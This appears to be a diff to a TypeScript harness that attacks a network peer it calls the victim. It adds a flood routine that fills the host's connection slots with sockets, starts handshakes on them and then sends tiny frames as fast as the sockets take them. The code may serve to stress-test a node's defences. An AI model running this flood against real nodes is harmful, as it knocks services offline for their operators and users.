@@ -63,13 +63,44 @@ export async function beginHandshakes(victim: Victim, count: number): Promise<En
   const sockets = await Promise.all(
     Array.from({ length: count }, async () => {
       const socket = await connect(victim);
-      const initiation = crypto.getRandomValues(new Uint8Array(516));
-      initiation.set([0, 0, 2, 0, 1]);
-      socket?.write(initiation);
+      socket?.write(initiation());
       return socket;
     }),
   );
   return endOf(sockets);
+}
+
+/** A frame of 4 bytes with its length in front, and 64 KiB of them. */
+const SMALL_FRAME = Uint8Array.of(0, 0, 0, 4, 1, 2, 3, 4);
+const SMALL_FRAMES: Uint8Array = Uint8Array.from(
+  { length: 65_536 },
+  (_, at) => SMALL_FRAME[at % SMALL_FRAME.length] ?? 0,
+);
+
+/** Begins a handshake on each of many connections, and goes on with frames of 4 bytes, as fast as they are taken. */
+export async function floodWithFrames(victim: Victim, rounds: number): Promise<EndOfIt> {
+  const sockets = await Promise.all(Array.from({ length: FLOODS }, () => connect(victim)));
+  const taken = sockets.map(() => 0);
+  for (const socket of sockets) socket?.write(initiation());
+  for (let round = 0; round < rounds; round++) {
+    for (const [nth, socket] of sockets.entries()) {
+      // What a socket has not taken is gone: the next bytes go on where those ended that it took.
+      const at = (taken[nth] ?? 0) % SMALL_FRAME.length;
+      taken[nth] = at + Math.max(0, socket?.write(SMALL_FRAMES.subarray(at)) ?? 0);
+    }
+    await Bun.sleep(1);
+  }
+  return endOf(sockets);
+}
+
+/** Connections of one flood: all that one host may have, but for some that peers need. */
+const FLOODS = 60;
+
+/** The first frame of a handshake, with noise in it. */
+function initiation(): Uint8Array {
+  const frame = crypto.getRandomValues(new Uint8Array(516));
+  frame.set([0, 0, 2, 0, 1]);
+  return frame;
 }
 
 /** One byte in each tenth of a second, and nothing is read. */
